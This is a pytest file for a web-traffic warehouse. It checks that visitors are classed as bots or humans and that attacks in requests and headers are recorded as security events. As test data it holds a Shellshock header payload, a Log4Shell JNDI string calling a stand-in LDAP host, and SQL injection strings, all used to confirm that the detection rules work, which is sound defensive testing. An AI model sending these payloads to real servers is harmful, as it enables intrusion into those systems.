"""Classification, raised: bots by name and category, readers too fast to be people, attacks in
headers, and look-alikes that are not attacks, on a warehouse built from crafted traffic."""

from __future__ import annotations

from collections import defaultdict
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import duckdb
import pytest

import classify_traffic as ct
from golkepar.config import Settings
from golkepar.warehouse.bot_catalogue import BOT_CATEGORIES, known_bot_rows
from golkepar.warehouse.build import build_warehouse
from lake_factory import visitor_key, write_lake, write_search_bot_ranges


def _build(tmp: Path, with_ranges: bool) -> Path:
    write_lake(tmp / "lake", ct.classification_hits())
    if with_ranges:
        write_search_bot_ranges(tmp / "geoip")
    settings = Settings(
        parquet_path_base=tmp / "lake", duckdb_file=tmp / "w.duckdb", ip_path_base=tmp / "geoip"
    )
    build_warehouse(settings)
    return settings.duckdb_file


@pytest.fixture(scope="module")
def warehouse(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return _build(tmp_path_factory.mktemp("classify"), with_ranges=True)


@pytest.fixture
def db(warehouse: Path) -> Iterator[duckdb.DuckDBPyConnection]:
    with duckdb.connect(str(warehouse), read_only=True) as con:
        yield con


def visitor(con: duckdb.DuckDBPyConnection, case: ct.Case) -> dict[str, Any]:
    cursor = con.execute(
        "SELECT * FROM visitors WHERE visitor_key = ?", [visitor_key(case.ip, case.user_agent)]
    )
    names = [d[0] for d in cursor.description]
    [row] = cursor.fetchall()
    return dict(zip(names, row, strict=True))


def kinds_of(con: duckdb.DuckDBPyConnection, case: ct.Case) -> set[str]:
    rows = con.execute(
        "SELECT kind FROM security_events WHERE visitor_key = ?",
        [visitor_key(case.ip, case.user_agent)],
    ).fetchall()
    return {r[0] for r in rows}


@pytest.mark.parametrize("case", ct.EVERY_CASE, ids=lambda c: c.name)
def test_each_visitor_gets_its_class_reason_and_category(
    db: duckdb.DuckDBPyConnection, case: ct.Case
) -> None:
    row = visitor(db, case)
    assert (row["visitor_class"], row["class_reason"]) == (case.visitor_class, case.reason)
    assert row["verified_bot"] is case.verified
    expected_category = case.bot[1] if case.bot else None
    assert row["bot_category"] == expected_category
    assert kinds_of(db, case) == case.kinds


def test_bots_has_one_row_per_site_and_name_with_its_totals(
    db: duckdb.DuckDBPyConnection,
) -> None:
    expected: dict[str, dict[str, Any]] = defaultdict(
        lambda: {"visitors": 0, "hits": 0, "pageviews": 0, "bytes": 0, "ts": []}
    )
    for case in ct.EVERY_CASE:
        if case.visitor_class != "bot":
            continue
        assert case.bot is not None
        row = expected[case.bot[0]]
        row["category"], row["verified"] = case.bot[1], case.verified
        row["visitors"] += 1
        row["hits"] += len(case.hits)
        row["pageviews"] += sum(hit.row("f", 1)["is_page"] for hit in case.hits)
        row["bytes"] += sum(hit.bytes or 0 for hit in case.hits)
        row["ts"] += [hit.ts for hit in case.hits]
    found = db.execute(
        "SELECT site, bot_name, bot_category, verified, visitors, hits, pageviews, bytes, "
        "first_seen, last_seen FROM bots ORDER BY bot_name"
    ).fetchall()
    assert {r[1] for r in found} == set(expected)
    for site, name, category, verified, visitors, hits, pageviews, sent, first, last in found:
        want = expected[name]
        assert site == "example.com"
        assert (category, verified) == (want["category"], want["verified"]), name
        assert (visitors, hits, pageviews, sent) == (
            want["visitors"],
            want["hits"],
            want["pageviews"],
            want["bytes"],
        ), name
        assert (first, last) == (min(want["ts"]), max(want["ts"])), name


def test_bots_covers_every_category_and_only_listed_ones(db: duckdb.DuckDBPyConnection) -> None:
    categories = {r[0] for r in db.execute("SELECT DISTINCT bot_category FROM bots").fetchall()}
    assert categories == {c.name for c in BOT_CATEGORIES}
    keys = db.execute(
        "SELECT count(*) FROM (SELECT site, bot_name FROM bots GROUP BY ALL HAVING count(*) > 1)"
    ).fetchall()
    assert keys == [(0,)]
    # Every bot visitor is counted once, and nobody else.
    assert db.execute(
        "SELECT (SELECT sum(visitors) FROM bots), "
        "(SELECT count(*) FROM visitors WHERE visitor_class = 'bot')"
    ).fetchall() == [(sum(1 for c in ct.EVERY_CASE if c.visitor_class == "bot"),) * 2]


def test_the_bot_list_is_stored_with_the_build(db: duckdb.DuckDBPyConnection) -> None:
    stored = db.execute("SELECT word, bot_name, bot_category FROM known_bots").fetchall()
    assert sorted(stored) == sorted(known_bot_rows())
    categories = db.execute("SELECT bot_category, meaning FROM bot_categories").fetchall()
    assert categories == [(c.name, c.meaning) for c in BOT_CATEGORIES]


def test_lookalikes_raise_no_event(db: duckdb.DuckDBPyConnection) -> None:
    reader = ct.LOOKALIKE_READER
    events = db.execute(
        "SELECT kind, detail FROM security_events WHERE visitor_key = ?",
        [visitor_key(reader.ip, reader.user_agent)],
    ).fetchall()
    assert events == []


def test_an_injection_in_query_and_referer_is_one_event(db: duckdb.DuckDBPyConnection) -> None:
    double = next(c for c in ct.HEADER_ATTACKS if c.name == "double-sqli")
    events = db.execute(
        "SELECT kind, detail FROM security_events WHERE visitor_key = ?",
        [visitor_key(double.ip, double.user_agent)],
    ).fetchall()
    assert events == [("sql_injection", "/item.php?id=1 or 1=1")]


def test_header_events_say_where_the_attack_was(db: duckdb.DuckDBPyConnection) -> None:
    details = dict(
        db.execute(
            "SELECT visitor_key, detail FROM security_events WHERE kind IN ('shellshock', "
            "'log4shell') OR (kind = 'sql_injection' AND detail LIKE 'Referer: %')"
        ).fetchall()
    )
    by_name = {c.name: details.get(visitor_key(c.ip, c.user_agent)) for c in ct.HEADER_ATTACKS}
    assert by_name["shellshock-ua"] == f"User-Agent: {ct.SHELLSHOCK}"
    assert by_name["shellshock-referer"] == "Referer: () { _; } >_[$($())] { id; }"
    assert by_name["log4shell-query"] == "/?x=${jndi:ldap://198.51.100.66/a}"
    assert by_name["referer-sqli"] == (
        "Referer: https://www.example.com/item.php?id=1' UNION SELECT NULL--"
    )


def test_header_kinds_are_in_security_patterns(db: duckdb.DuckDBPyConnection) -> None:
    targets = dict(
        db.execute(
            "SELECT kind, target FROM security_patterns "
            "WHERE kind IN ('shellshock', 'log4shell', 'sql_injection')"
        ).fetchall()
    )
    assert targets == {
        "shellshock": "user_agent, referer",
        "log4shell": "request, user_agent, referer",
        "sql_injection": "request, referer",
    }


def test_a_search_engine_user_agent_is_never_human_even_without_ranges(tmp_path: Path) -> None:
    database = _build(tmp_path, with_ranges=False)
    with duckdb.connect(str(database), read_only=True) as con:
        fake = visitor(con, ct.FAKE_BING)
        google = visitor(con, ct.VERIFIED_GOOGLE)
    # Nothing to check the address against: a bot, neither verified nor refuted.
    assert (fake["visitor_class"], fake["class_reason"]) == (
        "bot",
        "search bot User-Agent (Bingbot)",
    )
    assert (fake["verified_bot"], fake["bot_name"], fake["bot_category"]) == (
        None,
        "Bingbot",
        "search",
    )
    assert (google["visitor_class"], google["verified_bot"]) == ("bot", None)
